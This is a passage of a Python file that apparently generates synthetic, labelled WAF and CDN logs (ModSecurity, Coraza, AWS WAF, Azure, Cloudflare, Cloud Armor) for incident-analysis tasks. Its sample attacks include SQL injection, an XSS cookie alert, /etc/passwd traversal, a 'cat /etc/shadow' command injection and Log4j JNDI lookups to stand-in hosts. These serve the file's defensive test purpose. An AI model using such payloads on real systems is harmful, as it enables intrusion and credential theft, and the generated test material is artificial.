"""Firewalls of content and the edges in front of sites: ModSecurity, Coraza, AWS WAF, Azure, Google, Cloudflare, Akamai, Fastly, S3."""
from seen.lines_web import *

KINDS = []
kind = kinds(KINDS)

INJECTED = (("/search", "q", "1' UNION SELECT username,password FROM users-- -", "942100", "' UNION SELECT"), ("/product", "id", "7 AND SLEEP(5)", "942360", "AND SLEEP("), ("/search", "q", "<script>alert(document.cookie)</script>", "941100", "<script>"),
            ("/download", "file", "../../../../etc/passwd", "930120", "etc/passwd"), ("/ping", "host", "127.0.0.1;cat /etc/shadow", "932160", "etc/shadow"), ("/page", "name", "${jndi:ldap://x.test/a}", "944150", "${jndi:"))


@kind
def rule_set_upgraded_on_a_friday(s):
    """nginx with ModSecurity 3 and CRS: an upgrade of the rule set makes a shop's address form trip; a prober with real injections is refused as before and afterwards; three logs joined by the transaction"""
    h = s.host("shop"); a, e, m = "access.log", "error.log", "modsec_audit.json"; cut = s.some(40, 60); fix = cut + s.some(45, 60)
    what = changed(s, cut, "pipeline", "owasp-crs 3.3.7 -> 4.18.0 on shop gateways", "waf:crs", "waf"); changed(s, fix, s.who(3), "exclusion: SecRuleUpdateTargetById 932235 !ARGS:street (CRS 4.18.0)", "waf:crs", "waf"); beside(s, cut - 5, cut + 8)
    p = inc(s, "street names taken for shell commands", "waf", "waf-rule", MIS, BURST, what); x = inc(s, "injections into search and download", "waf", "waf-rule", ATT, "exploit-attempt", pattern=[SCAN])
    def no(t, ip, method, path, q, rule, where, matched, value, i, ua, who=None, score=1):
        uid = "%d.%06d" % (int(ep(t) * 10), s.some(0, 999999)); rid = s.hex(32); uri = path + ("?" + q if q else ""); ver = "OWASP_CRS/4.18.0" if s.minute(t) > cut else "OWASP_CRS/3.3.7"
        s.deny(i, [upstreamed(s, a, t, ip, method, uri, 403, rid=rid, ua=ua), msc3(s, e, t, ip, h, method, uri, uid, rule, where, matched, value, ver), msc3_total(s, e, t, ip, h, method, uri, uid, 5 * score, ver), msc3_audit(s, m, t, ip, h, method, uri, uid, [(rule, where, matched, value)] * score, ua, ver=ver.split("/")[1])], who)
    streets = ("Am Echo Park 4", "Time Square 12", "Cat Street 8", "Nice Lane 3", "Head Road 31", "Sort 2, Apt 5")
    for t in s.spread(0, 150, 7):
        k = s.some(0, 110)
        if s.r.random() < .3:
            street = s.r.choice(streets); odd = k % 4 == 0
            if odd and cut < s.minute(t) < fix: no(t, s.ip(k), "POST", "/checkout/address", "", "932235", "ARGS:street", " ".join(street.split()[-2:] if street.startswith("Am") else street.split()[:2]), street, p, s.agent(k))
            else: upstreamed(s, a, t, s.ip(k), "POST", "/checkout/address", 302, "302", ua=s.agent(k))
        else: upstreamed(s, a, t, s.ip(k), "GET", s.r.choice(["/", "/item/%d" % s.some(1, 200), "/search?q=lamp+%d" % s.some(1, 40)]), 200, "200", ua=s.agent(k))
    for b in (s.some(5, 25), s.some(110, 130)):
        for t in tries(s, b, s.some(20, 32), .3, 3):
            path, arg, value, rule, hit = s.r.choice(INJECTED); no(t, s.foe, "GET", path, arg + "=" + urllib.parse.quote(value), rule, "ARGS:" + arg, hit, value, x, "sqlmap/1.9.4#stable (https://sqlmap.org)" if b < 30 else BROWSER[1])


@kind
def newsroom_and_its_editor(s):
    """Apache with ModSecurity 2 in serial audit: editors' embedded scripts are refused since forever, a scanner is refused by its name, one old monitor asks by number; the sign-in works for the others"""
    h = s.host("news"); a, e, m = "access.log", "error.log", "modsec_audit.log"; beside(s, 20, 70)
    p = inc(s, "editors who embed a video", "waf", "waf-rule", MIS, STEADY, pattern=[SINGLE, LOOP]); x = inc(s, "scanner by its name", "waf", "waf-rule", ATT, SCAN, cause=["user-agent-blocked"], pattern=["exploit-attempt"]); o = inc(s, "login of the back office closed to the world", "proxy", "address-not-allowlisted", WAI, SINGLE, pattern=[STEADY, SCAN], cause=["server-rule"], verdict=[ATT, BOT])
    def no(t, ip, method, path, rule, where, matched, value, i, ua, who="-", body=None):
        uid = "a%s%sAAA" % (s.hex(10), s.hex(10)); rs = [combined(s, a, t, ip, method, path, 403, 199, user=who, ua=ua, tail=" " + uid)]
        w = msc2(s, e, t, ip, h, path.split("?")[0], uid, rule, where, matched, value); n = msc2_total(s, e, t, ip, h, path.split("?")[0], uid)
        audit = msc2_audit(s, m, t, ip, method, path, h, uid, [l["text"].split("] ", 5)[-1].split("ModSecurity: ")[1].split(" [hostname")[0] for l in (w, n)], ua, body=body)
        s.deny(i, rs + [w, n, audit], who if who != "-" else None)
    for t in s.spread(0, 150, 6):
        k = s.some(0, 140); uid = "a%s%sAAA" % (s.hex(10), s.hex(10)); combined(s, a, t, s.ip(k), "GET", s.r.choice(["/", "/sport/%d" % s.some(1, 90), "/local/%d" % s.some(1, 90), "/feed.xml"]), 200, ua=s.agent(k), tail=" " + uid)
    for t in s.spread(0, 150, 130):
        k = s.some(200, 206); ip = s.inner(k); post = s.some(1000, 1900)
        if s.r.random() < .4: no(t, ip, "POST", "/editor/post.php", "941160", "ARGS:content", "<iframe src=", "<p>Video:</p><iframe src=\\x22https://video.example.org/embed/%d\\x22>" % post, p, s.agent(k), s.who(k), "post_ID=%d&content=%%3Ciframe+src" % post)
        else: combined(s, a, t, ip, "POST", "/editor/post.php", 302, user=s.who(k), ua=s.agent(k), tail=" a%s%sAAA" % (s.hex(10), s.hex(10)))
    for t, path in zip(tries(s, s.some(30, 110), 45, .1, .6), s.r.sample(PROBED, 45)): no(t, s.foe, "GET", path, "913100", "REQUEST_HEADERS:User-Agent", "nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", x, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")
    for j in range(s.some(5, 9)):
        t = s.at(s.some(0, 149), j * 5); ip = s.zombies[j]; s.deny(o, [combined(s, a, t, ip, "POST", "/editor/login.php", 403, 199, ua=s.agent(j), tail=" -"), apache_err(s, e, t, "authz_core", "AH01630: client denied by server configuration: /srv/news/editor/login.php", ip)])
    s.config["news.conf"] = "<VirtualHost *:443>\n  ServerName %s\n  DocumentRoot /srv/news\n  <Directory /srv/news/editor>\n    Require ip 10.0.0.0/8\n  </Directory>\n  <Files login.php>\n    Require ip 10.0.0.0/8\n  </Files>\n</VirtualHost>\n" % h


@kind
def coraza_in_front_of_a_clinic(s):
    """Caddy with Coraza: a laboratory's upload program is refused for its content type after the rules were turned on; one attempt at Log4j; requests joined by time, client and path"""
    h = s.host("results"); f = "caddy.log"; cut = s.some(35, 60); what = changed(s, cut, s.who(2), "coraza: SecRuleEngine DetectionOnly -> On for results site", "caddy:results", "waf"); beside(s, cut + 2)
    p = inc(s, "laboratory's uploads of an unknown type", "waf", "waf-rule", MIS, LOOP, what, pattern=[BURST, STEADY]); x = inc(s, "lookups injected into headers", "waf", "waf-rule", ATT, "exploit-attempt", pattern=[SCAN]); c = inc(s, "challenges of the doctors' portal", "proxy", "credential-missing", WAI, SINGLE, pattern=[STEADY])
    def no(t, ip, method, uri, rule, where, matched, value, i, ua, headers=None):
        uid = "%sAbQx" % s.hex(12); s.deny(i, [caddy(s, f, t + sec(.003), ip, method, uri, 403, h, ua=ua, headers=headers), coraza(s, f, t, ip, uri, uid, rule, where, matched, value), coraza(s, f, t + sec(.001), ip, uri, uid, rule, where, matched, value, 5)])
    for t in s.ticks(0, 150, 75):
        n = s.some(10000, 99999); ip = s.there + "31"
        if s.minute(t) > cut: no(t, ip, "POST", "/hl7/inbox", "920420", "TX:content_type", "|x-application/hl7-v2+er7|", "|x-application/hl7-v2+er7|", p, "LabLink/7.2", {"Content-Type": ["x-application/hl7-v2+er7"]})
        else:
            uid = "%sAbQx" % s.hex(12); coraza(s, f, t, ip, "/hl7/inbox", uid, "920420", "TX:content_type", "|x-application/hl7-v2+er7|", "|x-application/hl7-v2+er7|")
            caddy(s, f, t + sec(.05), ip, "POST", "/hl7/inbox", 202, h, ua="LabLink/7.2", headers={"Content-Type": ["x-application/hl7-v2+er7"]})
    for t in s.spread(0, 150, 9):
        k = s.some(0, 60)
        if s.r.random() < .1: s.deny(c, caddy(s, f, t, s.ip(k), "GET", "/doctors/", 401, h, ua=s.agent(k), resp={"Www-Authenticate": ['Basic realm="restricted"']})); t += sec(5)
        caddy(s, f, t, s.ip(k), "GET", s.r.choice(["/doctors/", "/doctors/result/%d" % s.some(1, 900)]), 200, h, user=s.who(k), ua=s.agent(k))
    for t in tries(s, s.some(10, 140), s.some(9, 16), .2, 2): no(t, s.foe, "GET", "/", "944150", "REQUEST_HEADERS:X-Api-Version", "${jndi:", "${jndi:ldap://%s:1389/%s}" % (s.foe2, s.hex(4)), x, "${jndi:ldap://%s:1389/a}" % s.foe2)


@kind
def ticket_shop_on_sale_day(s):
    """ALB and AWS WAF: a challenge rule meant for browsers is put before the partner's API; stuffing is blocked by the account takeover rules; an allowed country list; the rate rule; both logs joined by the trace id"""
    h = s.host("tickets"); w, l = "aws-waf.json", "alb.log"; cut = s.some(30, 50); fix = cut + s.some(50, 70); what = changed(s, cut, "security", "web ACL shop-acl: AWSManagedRulesBotControlRuleSet challenge scope widened to /api", "waf:shop-acl", "waf"); changed(s, fix, "security", "web ACL shop-acl: scope-down, /api/partner excluded", "waf:shop-acl", "waf"); beside(s, cut - 2, cut + 30)
    b = inc(s, "partners' programs meet a browser's challenge", "waf", "bot-challenge", MIS, BURST, what); g = inc(s, "visitors from countries outside the list", "waf", "geo-blocked", WAI, SINGLE, pattern=[STEADY]); st = inc(s, "stolen pairs tried at the sign-in", "waf", "waf-rule", ATT, STUFF, cause=["credential-wrong", "rate-limited", "bot-challenge"]); q = inc(s, "one robot past the rate", "waf", "rate-limited", BOT, "scrape", pattern=[LOOP])
    def both(t, ip, country, method, path, status, i=None, ua=None, **kw):
        rid = "1-%08x-%s" % (int(ep(t)), s.hex(24)); url = "https://%s:443%s" % (h, path)
        if i: s.deny(i, [alb(s, l, t, ip, method, url, status, None, rid, ua, "waf"), aws_waf(s, w, t, ip, country, method, path, kw.pop("action", "BLOCK"), rid=rid, headers={"user-agent": ua, "x-amzn-trace-id": "Root=" + rid}, host=h, **kw)])
        else: alb(s, l, t, ip, method, url, status, status, rid, ua); aws_waf(s, w, t, ip, country, method, path, "ALLOW", rid=rid, headers={"user-agent": ua, "x-amzn-trace-id": "Root=" + rid}, host=h)
    for k in range(6):
        for t in s.ticks(k, 150, 240 + 30 * k):
            ua = "tixpartner-%s/1.%d" % ("abcdef"[k], k)
            if cut < s.minute(t) < fix: both(t, s.there + str(10 + k), "NL", "POST", "/api/partner/holds", 202, b, ua, action="CHALLENGE", rule="AWS-AWSManagedRulesBotControlRuleSet", kind="MANAGED_RULE_GROUP", groups=[{"ruleGroupId": "AWS#AWSManagedRulesBotControlRuleSet", "terminatingRule": {"ruleId": "TGT_TokenAbsent", "action": "CHALLENGE", "ruleMatchDetails": None}, "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}], challenge={"challengeResponse": {"responseCode": 202, "solveTimestamp": 0, "failureReason": "TOKEN_MISSING"}}, code=202, labels=["awswaf:managed:token:absent", "awswaf:managed:aws:bot-control:signal:non_browser_user_agent"])
            else: both(t, s.there + str(10 + k), "NL", "POST", "/api/partner/holds", 201, None, ua)
    for t in s.spread(0, 150, 14):
        k = s.some(0, 120); both(t, s.ip(k), s.r.choice(["DE", "NL", "BE", "FR"]), "GET", s.r.choice(["/", "/event/%d" % s.some(1, 30), "/cart"]), 200, None, s.agent(k))
    for t in s.spread(0, 150, 500): k = s.some(150, 190); both(t, s.ip(k), s.r.choice(["BR", "ID", "VN"]), "GET", "/", 403, g, s.agent(k), rule="only-europe", matched=[])
    for n, t in enumerate(tries(s, s.some(60, 100), s.some(60, 80), .5, 4)): both(t, s.zombies[n % 50], s.r.choice(["DE", "US", "FR"]), "POST", "/account/login", 403, st, BROWSER[n % 5], rule="AWS-AWSManagedRulesATPRuleSet", kind="MANAGED_RULE_GROUP", groups=[{"ruleGroupId": "AWS#AWSManagedRulesATPRuleSet", "terminatingRule": {"ruleId": "AttributeCompromisedCredentials", "action": "BLOCK", "ruleMatchDetails": None}, "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}], labels=["awswaf:managed:aws:atp:signal:credential_compromised"])
    for n, t in enumerate(tries(s, s.some(10, 25), s.some(50, 70), .2, .7)): both(t, s.foe2, "DE", "GET", "/event/%d/seats" % (n % 30), 403 if n > 14 else 200, q if n > 14 else None, "python-httpx/0.28.1", **(dict(rule="rate-per-ip", kind="RATE_BASED", rates=[{"rateBasedRuleId": s.id("rb"), "rateBasedRuleName": "rate-per-ip", "limitKey": "IP", "maxRateAllowed": 100, "evaluationWindowSec": "60", "limitValue": s.foe2}]) if n > 14 else {}))


@kind
def pictures_in_a_bucket(s):
    """CloudFront before S3, with CloudTrail: the bucket's policy loses the distribution; objects that do not exist answer 403; a distribution rule by country; an organisation's policy refuses deleting; four sources, joined by time and path"""
    b = s.company + "-media-prod"; h = s.host("media"); c, o, ct = "cloudfront.tsv", "s3-access.log", "cloudtrail.json"; cut = s.some(35, 60); fix = cut + s.some(15, 22)
    arn = "arn:aws:sts::111122223333:assumed-role/platform-admin/%s" % s.who(1); role = "arn:aws:sts::111122223333:assumed-role/media-pipeline/i-0%s" % s.hex(16)
    what = "PutBucketPolicy on %s by %s: statement AllowCloudFrontServicePrincipal removed" % (b, s.who(1))
    trail(s, ct, s.at(cut), "PutBucketPolicy", "s3", arn, s.inner(3), params={"bucketName": b, "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Sid": "OnlyTls", "Effect": "Deny", "Principal": "*", "Action": "s3:*", "Resource": ["arn:aws:s3:::%s/*" % b], "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}, "Host": b + ".s3.eu-west-1.amazonaws.com", "policy": ""}); trail(s, ct, s.at(fix), "PutBucketPolicy", "s3", arn, s.inner(3), params={"bucketName": b, "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Sid": "AllowCloudFrontServicePrincipal", "Effect": "Allow", "Principal": {"Service": "cloudfront.amazonaws.com"}, "Action": "s3:GetObject", "Resource": "arn:aws:s3:::%s/*" % b}]}, "policy": ""})
    beside(s, cut - 4, cut + 1)
    r = inc(s, "the bucket no longer knows the distribution", "platform", "resource-policy", MIS, BURST, what, cause=["permission-removed"]); n_ = inc(s, "pictures that were never there", "platform", "absence-hidden", WAI, STEADY, pattern=[SINGLE], verdict=[MIS, FAULT]); g = inc(s, "countries outside the licence", "edge", "geo-blocked", WAI, SINGLE, pattern=[STEADY]); gu = inc(s, "clean-up job against the organisation's policy", "platform", "guardrail", WAI, LOOP, cause=["explicit-deny"], verdict=[FAULT, MIS], pattern=[STEADY])
    def row(t, k, path, status, i=None, err="-", hit=False):
        key = path[1:]; e = cloudfront(s, c, t, s.ip(k), "GET", path, status, "Hit" if hit else "Error" if status == 403 else "Miss", h, ua=s.agent(k), mime="image/webp" if status == 200 else "application/xml")
        if hit: return
        x = s3(s, o, t, b, "130.176.%d.%d" % (s.some(1, 90), s.some(2, 200)), "svc:cloudfront.amazonaws.com", "REST.GET.OBJECT", key, "GET", path, status, err, "Amazon CloudFront", size=str(s.some(3000, 90000)), host=b + ".s3.eu-west-1.amazonaws.com")
        if i: s.deny(i, [e, x])
    for t in s.spread(0, 140, 6):
        k = s.some(0, 130); path = "/img/%d/%s.webp" % (s.some(1, 200), s.r.choice(["s", "m", "l"])); now = s.minute(t)
        if cut < now < fix and s.r.random() < .5: row(t, k, path, 403, r, "AccessDenied")
        elif s.r.random() < .05 and not cut < now < fix: row(t, k, "/img/%d/xl.webp" % s.some(900, 950), 403, n_, "AccessDenied")
        else: row(t, k, path, 200, hit=s.r.random() < .6 or cut < now < fix)
    for t in s.spread(0, 140, 700): k = s.some(140, 180); s.deny(g, cloudfront(s, c, t, s.ip(k), "GET", "/video/final-%d.mp4" % s.some(1, 9), 403, "Error", h, "ClientGeoBlocked", s.agent(k), pop=s.r.choice(["GRU3-P2", "SIN52-P1"])))
    for t in s.ticks(0, 140, 420):
        key = "tmp/%s" % s.hex(8); s.deny(gu, [s3(s, o, t, b, s.inner(9), role, "REST.DELETE.OBJECT", key, "DELETE", "/" + key, 403, "AccessDenied", "Boto3/1.40.61"), trail(s, ct, t, "DeleteObject", "s3", role, s.inner(9), "AccessDenied", "User: %s is not authorized to perform: s3:DeleteObject on resource: \"arn:aws:s3:::%s/%s\" with an explicit deny in a service control policy" % (role, b, key), {"bucketName": b, "key": key, "Host": b + ".s3.eu-west-1.amazonaws.com"}, [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::%s/%s" % (b, key)}], "[Boto3/1.40.61]")], role)
        s3(s, o, t + sec(20), b, s.inner(9), role, "REST.PUT.OBJECT", "img/%d/s.webp" % s.some(1, 200), "PUT", "/img/x", 200, ua="Boto3/1.40.61")


@kind
def portal_behind_an_application_gateway(s):
    """Azure Application Gateway with WAF before IIS: a newly activated managed rule refuses the forms' rich text; the IIS behind it answers 401 and 403.14 of its own; a scanner; joined by time, path and client"""
    h = s.host("portal"); a, w, i_ = "agw-access.json", "agw-firewall.json", "u_ex.log"; cut = s.some(30, 60); what = changed(s, cut, s.mail(2), "WAF policy waf-portal: Detection -> Prevention", "waf:waf-portal", "waf"); beside(s, cut - 1, cut + 40)
    p = inc(s, "rich text of a form taken for a script", "waf", "waf-rule", MIS, BURST, what); x = inc(s, "scanner", "waf", "waf-rule", ATT, SCAN, pattern=["exploit-attempt"]); d = inc(s, "folder without a default document", "proxy", "directory-listing-off", WAI, SINGLE, layer=["application"], pattern=[STEADY]); cc = inc(s, "terminal that presents no client certificate", "proxy", "client-certificate", FAULT, LOOP, layer=["application"], pattern=[STEADY])
    def ok(t, k, method, path, status=200, sub=0, win=0, i=None, user="-", ua=None):
        e = appgw(s, a, t, s.ip(k), method, path, status, h, status, ua=ua or s.agent(k)); y = iis(s, i_, t, "10.8.0.%d" % s.some(4, 5), method, path, status, sub, win, user, ua or s.agent(k), xff=s.ip(k), host=h)
        if i: s.deny(i, [e, y])
    def no(t, ip, method, path, query, found, i, ua):
        tid = s.hex(32); rs = [appgw(s, a, t, ip, method, path, 403, h, tid=tid, ua=ua, query=query)]
        for rule, msg, data, group in found: rs.append(appgw_waf(s, w, t, ip, path + query, h, tid, rule, "Matched", msg, data, file=group))
        rs.append(appgw_waf(s, w, t, ip, path + query, h, tid, "949110", "Blocked", "Inbound Anomaly Score Exceeded (Total Score: %d)" % (5 * len(found)), "Greater and Equal to Tx:inbound_anomaly_score_threshold at TX:anomaly_score. ", file="BLOCKING-EVALUATION")); s.deny(i, rs)
    found = [("941160", "NoScript XSS InjectionChecker: HTML Injection", "{<p style= found within [ARGS:description:<p style=\\\"margin:0\\\">]}", "XSS")]
    for t in s.spread(0, 150, 9):
        k = s.some(0, 70)
        if s.r.random() < .15:
            if s.minute(t) > cut: no(t, s.ip(k), "POST", "/cases/edit", "", found, p, s.agent(k))
            else:
                tid = s.hex(32); appgw(s, a, t, s.ip(k), "POST", "/cases/edit", 302, h, 302, tid, "Detection", s.agent(k)); iis(s, i_, t, "10.8.0.4", "POST", "/cases/edit", 302, user=s.who(k), ua=s.agent(k), xff=s.ip(k), host=h)
                appgw_waf(s, w, t, s.ip(k), "/cases/edit", h, tid, "941160", "Matched", found[0][1], found[0][2], file="XSS"); appgw_waf(s, w, t, s.ip(k), "/cases/edit", h, tid, "949110", "Detected", "Inbound Anomaly Score Exceeded (Total Score: 5)", "", file="BLOCKING-EVALUATION")
        else: ok(t, k, "GET", s.r.choice(["/", "/cases/%d" % s.some(1, 900), "/static/app.css"]), user=s.who(k))
    for j in range(2): ok(s.at(s.some(1, 148), j), 80 + j, "GET", "/static/", 403, 14, 0, d)
    for t in s.ticks(0, 150, 500): ok(t, 90, "POST", "/device/status", 403, 7, 0, cc, ua="kiosk-agent/2.0")
    for t, path in zip(tries(s, s.some(cut + 5, 145), 40, .2, .8), s.r.sample(PROBED, 40)): no(t, s.foe, "GET", path, "", [("930130", "Restricted File Access Attempt", "{%s found within [REQUEST_FILENAME:%s]}" % (path.strip("/"), path), "LFI")], x, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")


@kind
def front_door_of_a_travel_agency(s):
    """Azure Front Door: a custom rule by country also holds the offices of a newly bought company; a rate rule; bots by the managed bot rules; the tracking reference joins both logs"""
    h = s.host("book"); a, w = "afd-access.json", "afd-waf.json"; cut = s.some(30, 60); what = changed(s, cut, s.mail(4), "WafProd: rule BlockCountries extended by TR, RS, AL", "waf:WafProd", "waf"); beside(s, cut + 1)
    s.known = "shared:\n  - {name: Belgrade office (acquired), networks: [%s/32], people: 35}\n" % (s.there + "77")
    g = inc(s, "the bought company's office is in a blocked country", "waf", "geo-blocked", MIS, BURST, what, layer=["edge"]); o = inc(s, "others of blocked countries", "waf", "geo-blocked", WAI, SINGLE, layer=["edge"], pattern=[STEADY, SCAN], verdict=[ATT, UND]); b = inc(s, "price scraper by the bot rules", "waf", "bot-challenge", BOT, "scrape", layer=["edge"], cause=["waf-rule", "user-agent-blocked"]); q = inc(s, "sign-in form over the rate", "waf", "rate-limited", ATT, STUFF, layer=["edge"], verdict=[WAI], pattern=[BRUTE, LOOP])
    def row(t, ip, country, method, path, status, i=None, rule=None, matches=None, ua=None):
        track = "%s%sZ" % (t.strftime("%Y%m%dT%H%M%S"), "-" + s.hex(24)); e = afd(s, a, t, ip, method, "https://%s:443%s" % (h, path), status, track, country, origin=not i, ua=ua)
        if i: s.deny(i, [e, afd_waf(s, w, t, ip, "https://%s:443%s" % (h, path), track, rule, "Block", matches=matches)])
    for t in s.spread(0, 150, 8):
        k = s.some(0, 100); row(t, s.ip(k), s.r.choice(["DE", "AT", "CH"]), s.r.choice(["GET", "GET", "POST"]), s.r.choice(["/", "/trip/%d" % s.some(1, 90), "/search"]), 200, ua=s.agent(k))
    for t in s.spread(0, 150, 60):
        k = s.some(0, 34)
        if s.minute(t) > cut: row(t, s.there + "77", "RS", "GET", s.r.choice(["/agent/desk", "/agent/booking/%d" % s.some(1, 400)]), 403, g, "BlockCountries", [{"matchVariableName": "SocketAddr", "matchVariableValue": s.there + "77"}], s.agent(k))
        else: row(t, s.there + "77", "RS", "GET", s.r.choice(["/agent/desk", "/agent/booking/%d" % s.some(1, 400)]), 200, ua=s.agent(k))
    for j in range(s.some(5, 8)): row(s.at(s.some(0, 149), j), s.zombies[j], s.r.choice(["RU", "CN", "KP"]), "GET", "/", 403, o, "BlockCountries", [{"matchVariableName": "SocketAddr", "matchVariableValue": s.zombies[j]}], s.agent(j))
    for n, t in enumerate(tries(s, s.some(10, 100), 55, .4, 2)): row(t, s.foe, "DE", "GET", "/trip/%d/prices" % n, 403, b, "Microsoft_BotManagerRuleSet-1.1-Bot300700", [{"matchVariableName": "HeaderValue:User-Agent", "matchVariableValue": "Scrapy/2.13"}], "Scrapy/2.13 (+https://scrapy.org)")
    for n, t in enumerate(tries(s, s.some(70, 120), 40, .3, 1)): row(t, s.foe2, "DE", "POST", "/signin", 429, q, "RateSignin", [{"matchVariableName": "RequestUri", "matchVariableValue": "https://%s:443/signin" % h}], BROWSER[n % 3])


@kind
def zone_with_a_new_bot_mode(s):
    """Cloudflare: firewall events and requests of one zone; a bot mode switched on in the dashboard challenges the app's own API calls; a country rule, an agent rule, a rule against one network, hotlinks, a rate rule; Ray IDs join them"""
    h = s.host("app"); fw, ht = "firewall_events.json", "http_requests.json"; cut = s.some(40, 60); fix = cut + s.some(30, 45); what = changed(s, cut, s.mail(1), "Cloudflare zone: Super Bot Fight Mode definitely automated -> managed challenge", "zone:" + s.domain, "waf"); changed(s, fix, s.mail(1), "Cloudflare zone: skip rule for /api/mobile/", "zone:" + s.domain, "waf"); beside(s, cut - 3, cut + 5)
    m = inc(s, "the phone app cannot solve a challenge", "waf", "bot-challenge", MIS, BURST, what, layer=["edge"]); c = inc(s, "a country closed by rule", "waf", "geo-blocked", WAI, SINGLE, layer=["edge"], pattern=[STEADY]); n_ = inc(s, "a hoster's network closed after a raid", "waf", "address-blocked", ATT, SCAN, layer=["edge"], verdict=[WAI, BOT]); u = inc(s, "forged old browsers", "waf", "user-agent-blocked", BOT, "scrape", layer=["edge"], verdict=[WAI], pattern=[STEADY], cause=["waf-rule"]); hl = inc(s, "a forum's hotlinks", "waf", "hotlink-refused", WAI, STEADY, layer=["edge"], pattern=[SINGLE]); q = inc(s, "one customer's sync past the rate", "waf", "rate-limited", FAULT, LOOP, layer=["edge"], verdict=[WAI], pattern=[STEADY, BURST])
    def row(t, ip, country, asn, method, path, status, i=None, action="", source="", rule="", desc="", ua=None, score=70, org="EXAMPLE-NET", ref="", meta=None):
        ray = s.hex(16); e = cf_http(s, ht, t, ip, country, asn, method, path, status, ray, h, 0 if i else status, ua, {"managedchallenge": "managedChallenge"}.get(action, action), [{"firewallcustom": "firewallCustom", "ratelimit": "rateLimit"}.get(source, source)] if source else (), [rule] if rule else (), score=score, ref=ref, desc=desc)
        if i: s.deny(i, [e, cf_fw(s, fw, t, ip, country, asn, method, path, action, source, rule, desc, ray, h, ua, status, org=org, meta=meta, ref=ref)])
    ids = {k: s.hex(32) for k in "mcnuhq"}
    for t in s.spread(0, 150, 7):
        k = s.some(0, 130); row(t, s.ip(k), "de", 64500 + k % 9, "GET", s.r.choice(["/", "/plans", "/help/%d" % s.some(1, 40)]), 200, ua=s.agent(k))
    for t in s.spread(0, 150, 14):
        k = s.some(0, 90); path = "/api/mobile/%s" % s.r.choice(["feed", "me", "orders"]); ua = "OurApp/8.4.%d okhttp/5.2.1" % (k % 4)
        if cut < s.minute(t) < fix and s.r.random() < .75: row(t, s.ip(k), "de", 64500 + k % 9, "GET", path, 403, m, "managedchallenge", "botFight", ids["m"], "Manage definite bots", ua, 1, meta={"bot_score": "1"})
        else: row(t, s.ip(k), "de", 64500 + k % 9, "GET", path, 200, ua=ua, score=2)
    for t in s.spread(0, 150, 900): k = s.some(150, 170); row(t, s.ip(k), "ir", 64510, "GET", "/", 403, c, "block", "firewallcustom", ids["c"], "sanctioned countries", s.agent(k))
    for t, path in zip(tries(s, s.some(10, 120), 48, .3, 1.5), s.r.sample(PROBED, 48)): row(t, s.away + str(s.some(50, 60)), "nl", 64496, "GET", path, 403, n_, "block", "asn", ids["n"], "AS64496 blocked after raid of last week", "python-requests/2.32.3", 1, "CHEAPVPS-LLC")
    for t in s.ticks(0, 150, 200): row(t, s.away + str(s.some(150, 160)), "us", 64497, "GET", "/plans?c=%d" % s.some(1, 50), 403, u, "block", "bic", "bic", "Browser Integrity Check", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", 3)
    for t in s.spread(0, 150, 400): k = s.some(180, 199); row(t, s.ip(k), "de", 64501, "GET", "/img/logo-large.png", 403, hl, "block", "hot", "hot", "Hotlink Protection", s.agent(k), ref="https://memes.test/t/9")
    for n, t in enumerate(tries(s, s.some(20, 90), 70, 1, 4)):
        over = n > 25 and n % 2; row(t, s.ip(300), "de", 64503, "GET", "/api/v2/contacts?page=%d" % n, 429 if over else 200, q if over else None, "block" if over else "", "ratelimit" if over else "", ids["q"] if over else "", "API: 60 per minute" if over else "", "crm-sync/1.7", 20)


@kind
def armour_of_a_map_service(s):
    """Google's load balancer with Cloud Armor: a preview rule is enforced and takes map queries for injections; an address list; a rate ban; a region; the identity-aware proxy turns a new colleague away"""
    h = s.host("maps"); f = "requests.json"; cut = s.some(35, 65); what = changed(s, cut, "terraform", "security policy edge-policy: rule 1000 sqli-v33-stable preview -> enforced, sensitivity 2", "armor:edge-policy", "waf"); beside(s, cut - 8, cut + 3)
    p = inc(s, "place searches taken for injections", "waf", "waf-rule", MIS, BURST, what, layer=["edge"]); x = inc(s, "injections from one address", "waf", "waf-rule", ATT, "exploit-attempt", layer=["edge"], pattern=[SCAN]); l = inc(s, "addresses on the deny list", "waf", "address-blocked", WAI, STEADY, layer=["edge"], verdict=[ATT, BOT], pattern=[SINGLE, LOOP, SCAN]); q = inc(s, "tile scraper throttled", "waf", "rate-limited", BOT, "scrape", layer=["edge"], pattern=[LOOP])
    url = lambda path: "https://%s%s" % (h, path)
    v = inc(s, "an export from outside the perimeter", "platform", "network-perimeter", WAI, SINGLE, pattern=[STEADY, LOOP], verdict=[FAULT])
    for j in range(s.some(2, 4)):
        t = s.at(s.some(1, 148), j * 11); b = "projects/_/buckets/%s-tiles" % s.company
        s.deny(v, s.json("cloudaudit-policy.json", t, {"protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "status": {"code": 7, "message": "Request is prohibited by organization's policy. vpcServiceControlsUniqueIdentifier: %s" % s.hex(32), "details": [{"@type": "type.googleapis.com/google.rpc.PreconditionFailure", "violations": [{"type": "VPC_SERVICE_CONTROLS", "description": s.hex(32)}]}]}, "authenticationInfo": {"principalEmail": s.mail(4)}, "requestMetadata": {"callerIp": s.ip(201), "callerSuppliedUserAgent": "gcloud/545.0.0 google-cloud-sdk"}, "serviceName": "storage.googleapis.com", "methodName": "google.storage.objects.list", "resourceName": "projects/412345678901", "metadata": {"@type": "type.googleapis.com/google.cloud.audit.VpcServiceControlAuditMetadata", "vpcServiceControlsUniqueId": s.hex(32), "violationReason": "NO_MATCHING_ACCESS_LEVEL", "securityPolicyInfo": {"organizationId": "9876543210", "servicePerimeterName": "accessPolicies/55/servicePerimeters/maps"}, "ingressViolations": [{"targetResource": "projects/412345678901", "servicePerimeter": "accessPolicies/55/servicePerimeters/maps"}], "resourceNames": [b]}}, "insertId": s.hex(14), "resource": {"type": "audited_resource", "labels": {"method": "google.storage.objects.list", "project_id": s.company + "-prod", "service": "storage.googleapis.com"}}, "timestamp": z(t, 6), "severity": "ERROR", 